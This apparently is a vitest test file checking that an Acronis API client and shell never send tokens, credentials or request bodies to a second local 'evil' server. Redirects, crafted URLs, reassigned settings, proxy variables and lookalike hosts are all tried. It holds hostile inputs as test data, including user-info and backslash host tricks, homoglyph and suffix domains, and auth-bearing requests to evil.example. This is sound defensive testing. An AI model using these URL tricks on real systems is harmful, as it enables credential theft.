/** A second server, which is not the data centre: whatever is typed, set or answered, it sees not one byte. */
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { ShellError } from '../src/api/errors.ts';
import { SettingsError } from '../src/session/errors.ts';
import { readSettings } from '../src/session/settings/settings.ts';
import { startServer } from './api/servers.ts';
import { grantJson, quickClient, USER_ID, userJson } from './api/world.ts';
import { JOHN_DOE, type Stage, stage } from './helpers/stage.ts';

interface Evil {
  /** Host and port. */
  readonly host: string;
  readonly port: number;
  /** All that arrived there. */
  seen(): string;
}

async function startEvil(): Promise<Evil> {
  let seen = '';
  const server = net.createServer((socket) => {
    socket.on('error', () => {});
    socket.on('data', (data) => {
      seen += data.toString('latin1');
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  const { port } = server.address() as AddressInfo; // listening on a port, not a path
  return { host: `127.0.0.1:${port}`, port, seen: () => seen };
}

// Whatever a client opened that was not waited for has arrived by now.
async function settle({ host }: Evil): Promise<void> {
  const [name = '', port] = host.split(':');
  await new Promise<void>((resolve) => {
    const last = net.connect(Number(port), name, () => last.destroy());
    last.on('close', () => setImmediate(resolve));
  });
}

const locations: readonly [what: string, location: (evil: Evil) => string][] = [
  ['another host', ({ host }) => `http://${host}/api/2/users`],
  ['what looks like a subdomain', ({ port }) => `http://api.localhost:${port}/api/2/users`],
  ['the same computer by another name', ({ port }) => `http://localhost:${port}/`],
  ['//host', ({ host }) => `//${host}/api/2/users`],
  ['\\\\host', ({ host }) => `\\\\${host}\\api`],
  ['a URL with a user name', ({ host }) => `http://127.0.0.1@${host}/`],
  ['another scheme', ({ host }) => `https://${host}/`],
];

const redirects = [301, 302, 303, 307, 308].flatMap((status) =>
  locations.map(([what, location]) => [status, what, location] as const),
);

test.each(redirects)(
  'a redirect (%i) to %s takes nothing along: no token, no credentials, no body (N16, N17)',
  async (status, _, location) => {
    const evil = await startEvil();
    const headers = { location: location(evil) };
    const good = await startServer(({ method, url }) =>
      method === 'POST' && url.endsWith('/token') ? { body: grantJson() } : { status, headers },
    );
    const signsIn = await startServer(() => ({ status, headers }));
    const client = quickClient(good.origin);

    const failures = await Promise.allSettled([
      client.fetchUser(USER_ID),
      client.putUser(USER_ID, JSON.stringify(userJson())),
      quickClient(signsIn.origin).token(),
    ]);

    expect(failures.map(({ status: outcome }) => outcome)).toEqual(['rejected', 'rejected', 'rejected']);
    expect(good.seen.some(({ headers: sent }) => sent.authorization?.startsWith('Bearer '))).toBe(true);
    await settle(evil);
    expect(evil.seen()).toBe('');
  },
);

type Typed = (shell: Stage['shell'], names: Stage['names'], evil: Evil) => Promise<unknown>;

const typed: readonly [what: string, act: Typed][] = [
  ['an absolute URL', ({ requests }, { auth }, { host }) => requests.get(`http://${host}/api/2`, { headers: auth })],
  ['//host', ({ requests }, { auth }, { host }) => requests.get(`//${host}/api/2`, { headers: auth })],
  [
    'the data centre as a user name',
    ({ requests }, { auth, datacenter_url }, { host }) =>
      requests.get(`${datacenter_url}@${host}/api/2`, { headers: auth }),
  ],
  [
    'the data centre before a backslash',
    ({ requests }, { auth, datacenter_url }, { host }) =>
      requests.put(`http://${host}\\@${String(datacenter_url).slice(7)}/`, { headers: auth }),
  ],
  [
    'the data centre as a path',
    ({ requests }, { auth, base_url }, { host }) => requests.get(`http://${host}/${base_url}`, { headers: auth }),
  ],
  [
    'the same computer by another name',
    ({ requests }, { auth }, { port }) => requests.get(`http://localhost:${port}/`, { headers: auth }),
  ],
  ['a write', ({ requests }, { auth }, { host }) => requests.put(`http://${host}/`, { headers: auth, data: '{}' })],
  [
    'request(method, url)',
    ({ requests }, { auth }, { host }) => requests.request('DELETE', `http://${host}/`, { headers: auth }),
  ],
  [
    'auth as it was typed',
    ({ requests }, { auth }, { host }) =>
      requests.post(`http://${host}/`, { headers: { Authorization: auth.Authorization }, json: { auth } }),
  ],
  [
    'a base_url that was set anew',
    ({ requests }, names, { host }) => {
      names['base_url'] = `http://${host}/api/2`;
      return requests.get(`${names['base_url']}/users/${JOHN_DOE}`, { headers: names['auth'] });
    },
  ],
  [
    'a datacenter_url that was set anew, with the credentials of the session',
    ({ requests }, names, { host }) => {
      names['datacenter_url'] = `http://${host}`;
      return requests.post(`${names['datacenter_url']}/api/2/idp/token`, {
        headers: { Authorization: 'Basic czNjcmV0LXMzY3JldA==' },
        data: { grant_type: 'client_credentials' },
      });
    },
  ],
  [
    'a helper beside a base_url that was set anew',
    ({ findUser }, names, { host }) => {
      names['base_url'] = `http://${host}/api/2`;
      return findUser('JohnDoe');
    },
  ],
  [
    'a write of a helper beside a base_url that was set anew',
    ({ putEmail }, names, { host }) => {
      names['user_id'] = JOHN_DOE;
      names['base_url'] = `http://${host}/api/2`;
      return putEmail('johndoe@newmail.net');
    },
  ],
  [
    'a user_id that leads elsewhere',
    ({ fetchVersion }, names, { host }) => {
      names['user_id'] = `//${host}/`;
      return fetchVersion();
    },
  ],
];

test.each(typed)('what is typed with %s is refused, and nothing is sent (N20, A10, PR51)', async (_, act) => {
  const evil = await startEvil();
  const { shell, names, session, sent } = await stage();
  await session.signIn();
  sent.length = 0;

  const failure = await Promise.resolve()
    .then(() => act(shell, names, evil))
    .catch((error: unknown) => error);

  expect(failure).toBeInstanceOf(ShellError);
  await settle(evil);
  expect(evil.seen()).toBe('');
  expect(sent).toEqual([]);
});

test('an auth that was set anew goes to the data centre alone (A10)', async () => {
  const evil = await startEvil();
  const { shell, names, session, sent } = await stage();
  await session.signIn();
  names['auth'] = { Authorization: 'Bearer typed-t0ken', Host: evil.host };

  await shell['findUser']('JohnDoe');
  const failure = await shell['requests']
    .get(`http://${evil.host}/`, { headers: names['auth'] })
    .catch((error: unknown) => error);

  expect(failure).toBeInstanceOf(ShellError);
  expect(sent.length).toBeGreaterThan(0);
  await settle(evil);
  expect(evil.seen()).toBe('');
});

describe('a proxy of the environment', () => {
  const variables = ['HTTPS_PROXY', 'https_proxy', 'ALL_PROXY', 'all_proxy', 'HTTP_PROXY', 'http_proxy'];

  function stub({ host }: Evil): void {
    vi.stubEnv('NO_PROXY', '');
    vi.stubEnv('no_proxy', '');
    for (const name of variables) vi.stubEnv(name, `http://${host}`);
  }

  test('a proxy of the environment sees nothing while it is off, of a request that leaves nor of one that cannot (N18)', async () => {
    const evil = await startEvil();
    const good = await startServer(({ method }) => ({ body: method === 'POST' ? grantJson() : userJson() }));
    stub(evil);

    expect((await quickClient(good.origin).fetchUser(USER_ID)).login).toBe('foobar');
    for (const proxy of ['off', { unused: 'HTTPS_PROXY' }] as const) {
      const limits = { connectMs: 2_000 };
      await expect(quickClient('https://nobody.invalid', { proxy, limits }).token()).rejects.toThrow('nobody.invalid');
    }

    await settle(evil);
    expect(evil.seen()).toBe('');
  });

  test('a proxy of the environment sees the name of the host, and no more, once it is chosen (N18)', async () => {
    const evil = await startEvil();
    stub(evil);

    await expect(quickClient('https://nobody.invalid', { proxy: 'env' }).token()).rejects.toThrow(ShellError);

    expect(evil.seen()).toMatch(/^CONNECT nobody\.invalid:443 /);
    expect(evil.seen()).not.toContain('Basic');
  });
});

test.each<[what: string, url: (evil: Evil) => string]>([
  ['a foreign host', () => 'https://evil.example'],
  ['a foreign host without TLS', ({ port }) => `http://localhost.evil.example:${port}`],
  ['what begins like a data centre', ({ port }) => `https://eu2-cloud.acronis.com.evil.example:${port}`],
  ['what begins like this computer', ({ port }) => `http://127.0.0.1.evil.example:${port}`],
  ['a data centre as a user name', ({ host }) => `https://eu2-cloud.acronis.com@${host}`],
  ['a user name and a password', ({ host }) => `http://me:pw@${host}`],
  ['a path', ({ host }) => `http://${host}/steal`],
  ['a query', ({ host }) => `http://${host}/?x`],
  ['a host that looks like another', () => 'https://eu2-cloud.аcronis.com'],
  ['a full-width dot', () => 'https://eu2-cloud.acronis。evil.example'],
])('settings with %s are refused before anything is sent (G6, G7, G8, PR51)', async (_, url) => {
  const evil = await startEvil();
  const env = {
    ACRONIS_DATACENTER_URL: url(evil),
    ACRONIS_CLIENT_ID: 'an-id',
    ACRONIS_CLIENT_SECRET: 's3cret-s3cret',
    HOME: '/nowhere',
  };

  await expect(readSettings({ env, cwd: '/nowhere' })).rejects.toThrow(SettingsError);
  await settle(evil);
  expect(evil.seen()).toBe('');
});

test('the second server hears whoever does talk to it', async () => {
  const evil = await startEvil();

  await new Promise<void>((resolve, reject) => {
    const options = { headers: { Authorization: 'Bearer t0ken-t0ken' } };
    http.get(`http://${evil.host}/`, options, (answer) => answer.resume().on('end', resolve)).on('error', reject);
  });

  expect(evil.seen()).toContain('Bearer t0ken-t0ken');
});
